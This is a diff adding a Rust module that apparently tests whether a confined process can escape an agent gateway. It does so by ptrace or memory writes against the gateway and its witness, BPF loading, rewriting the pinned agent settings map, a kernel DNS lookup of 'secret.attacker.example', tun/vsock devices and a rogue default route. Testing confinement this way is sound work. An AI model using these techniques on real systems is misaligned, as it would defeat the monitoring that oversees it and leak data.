@@ -1,0 +1,109 @@
+//! The gateway's own doors on this host, and those of others: memory, descriptors, sockets in the file system, the kernel's
+//! helpers.
+
+use std::io::{Read, Write};
+use std::os::unix::net::UnixStream;
+
+use nix::errno::Errno;
+
+use crate::sys::{self, Attempt};
+use crate::{Outcome, Scene, Technique};
+
+pub(crate) const TECHNIQUES: &[Technique] = &[
+    ("admin_socket", |scene| unix(scene.text("admin"))),
+    ("ptrace_gateway", |scene| {
+        sys::ptrace_seize(scene.number("gateway_pid")).map(|()| Outcome::Done("traces the gateway"))
+    }),
+    ("ptrace_witness", |scene| {
+        sys::ptrace_seize(scene.number("witness_pid")).map(|()| Outcome::Done("traces the witness"))
+    }),
+    ("memory_gateway", |scene| memory(scene.number("gateway_pid"))),
+    ("memory_witness", |scene| memory(scene.number("witness_pid"))),
+    ("memory_file_gateway", |scene| {
+        let path = format!("/proc/{}/mem", scene.number("gateway_pid"));
+        open(&path, "the gateway's memory")
+    }),
+    ("bpf_program", |_| {
+        // A socket filter of two instructions (`r0 = 0; exit`).
+        let instructions: [u64; 2] = [0x0000_0000_0000_00b7, 0x0000_0000_0000_0095];
+        let attribute = [1 | 2 << 32, instructions.as_ptr() as u64, c"GPL".as_ptr() as u64, 0];
+        sys::bpf(5, &attribute).map(|_| Outcome::Done("a program"))
+    }),
+    ("bpf_map", |_| sys::bpf(0, &[1 | 4 << 32, 4 | 1 << 32, 0, 0]).map(|_| Outcome::Done("a map"))),
+    ("bpf_program_by_id", |_| {
+        // BPF_PROG_GET_NEXT_ID from 0, for the id that BPF_PROG_GET_FD_BY_ID takes.
+        let mut attribute = [0u64; 4];
+        let next = sys::bpf(11, &attribute);
+        if let Err(errno) = next {
+            return Err(errno);
+        }
+        attribute[0] = 1;
+        sys::bpf(13, &attribute).map(|_| Outcome::Done("somebody's program"))
+    }),
+    ("pinned_settings", |scene| {
+        let path = format!("{}/v{}/maps/SETTINGS", scene.text("pins"), scene.text("layout"));
+        let path = std::ffi::CString::new(path).expect("a path");
+        sys::open_pin(&path).map(|_| Outcome::Done("may rewrite who is an agent"))
+    }),
+    ("kernel_key", |_| {
+        // The kernel asks /sbin/request-key, which looks the name up for it.
+        sys::request_dns_key(c"secret.attacker.example").map(|()| Outcome::Done("the kernel looked a name up"))
+    }),
+    ("tun", |_| {
+        let device = std::fs::File::options().read(true).write(true).open("/dev/net/tun").map_err(|error| errno(&error))?;
+        sys::make_tun(&device, b"weir-tun0").map(|()| Outcome::Done("a network device"))
+    }),
+    ("vsock", |_| sys::socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0).map(|_| Outcome::Done("a socket to the hypervisor"))),
+    ("netlink_route", netlink_route),
+    ("alg", |_| sys::socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0).map(|_| Outcome::Done("arithmetic"))),
+];
+
+fn errno(error: &std::io::Error) -> Errno {
+    Errno::from_raw(error.raw_os_error().unwrap_or(0))
+}
+
+fn open(path: &str, what: &'static str) -> Attempt<Outcome> {
+    match std::fs::File::options().write(true).open(path) {
+        Ok(_) => Ok(Outcome::Done(what)),
+        Err(error) => Err(errno(&error)),
+    }
+}
+
+fn memory(pid: u32) -> Attempt<Outcome> {
+    match sys::write_memory(pid) {
+        // Nothing is mapped at that address; that one may write is known now.
+        Ok(()) | Err(Errno::EFAULT) => Ok(Outcome::Done("writes another process's memory")),
+        Err(errno) => Err(errno),
+    }
+}
+
+fn unix(path: &str) -> Attempt<Outcome> {
+    let mut stream = UnixStream::connect(path).map_err(|error| errno(&error))?;
+    stream.set_read_timeout(Some(std::time::Duration::from_secs(3))).expect("a timeout");
+    // What `weir status` asks.
+    stream.write_all(b"{\"ask\":\"status\"}\n").map_err(|error| errno(&error))?;
+    let mut answer = [0u8; 200];
+    match stream.read(&mut answer).map_err(|error| errno(&error))? {
+        0 => Ok(Outcome::Closed),
+        length => Ok(Outcome::Answer(String::from_utf8_lossy(&answer[..length]).trim().to_owned())),
+    }
+}
+
+/// A default route of the attacker's own (rtnetlink(7), RTM_NEWROUTE), by an interface that there is.
+fn netlink_route(scene: &Scene) -> Attempt<Outcome> {
+    let fd = sys::socket(libc::AF_NETLINK, libc::SOCK_RAW, 0)?;
+    let attribute = [&8u16.to_ne_bytes()[..], &4u16.to_ne_bytes(), &scene.number("interface").to_ne_bytes()].concat();
+    let route = [&[2, 0, 0, 0, 254, 3, 253, 1][..], &[0; 4]].concat();
+    let length = u32::try_from(16 + route.len() + attribute.len()).expect("short");
+    // NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE
+    let header = [&length.to_ne_bytes()[..], &24u16.to_ne_bytes(), &0x405u16.to_ne_bytes(), &[1, 0, 0, 0, 0, 0, 0, 0]];
+    let message = [header.concat(), route, attribute].concat();
+    sys::send_to(&fd, &message, 0, &[])?;
+    let mut answer = [0u8; 256];
+    let length = sys::receive(&fd, &mut answer)?;
+    assert!(length >= 20, "a whole acknowledgement");
+    match i32::from_ne_bytes([answer[16], answer[17], answer[18], answer[19]]) {
+        0 => Ok(Outcome::Done("a route")),
+        error => Err(Errno::from_raw(-error)),
+    }
+}
